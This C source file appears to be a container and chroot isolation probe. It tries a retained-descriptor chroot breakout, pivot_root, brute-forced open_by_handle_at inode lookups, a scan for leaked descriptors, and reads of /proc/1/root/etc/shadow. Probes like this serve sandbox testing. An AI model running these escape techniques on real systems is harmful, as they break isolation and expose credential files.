/* The old way out of a root, and the newer ones: descriptors from outside, handles, the parent of /. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
    int before = open("/", O_RDONLY | O_DIRECTORY);
    struct stat root, now;
    fstat(before, &root);
    mkdir("/w/below", 0755);
    if (chroot("/w/below") == 0) printf("chroot\n");
    if (syscall(SYS_pivot_root, "/w", "/w/below") == 0) printf("pivot_root\n");
    fchdir(before);
    for (int n = 0; n < 100; n++) chdir("..");
    stat(".", &now);
    if (now.st_ino != root.st_ino || now.st_dev != root.st_dev) printf("above the root\n");
    struct { struct file_handle head; unsigned char bytes[128]; } handle = {.head = {.handle_bytes = 128}};
    int mount;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &handle, &mount, 0) == 0) printf("handle\n");
    for (unsigned inode = 1; inode < 20; inode++) {
        handle.head.handle_bytes = 8;
        handle.head.handle_type = 1;
        *(unsigned *)handle.bytes = inode;
        if (syscall(SYS_open_by_handle_at, before, &handle, O_RDONLY) >= 0) printf("opened inode %u\n", inode);
    }
    for (int fd = 3; fd < 512; fd++) if (fd != before && fcntl(fd, F_GETFD) >= 0) printf("descriptor %d\n", fd);
    for (int pid = 1; pid < 3; pid++) {
        char path[64];
        for (int n = 0; n < 3; n++) {
            snprintf(path, sizeof path, "/proc/%d/%s", pid, n == 0 ? "root/etc/shadow" : n == 1 ? "cwd" : "exe");
            if (pid != getpid() && open(path, O_RDONLY) >= 0) printf("%s\n", path);
        }
    }
    printf("contained\n");
    return 0;
}
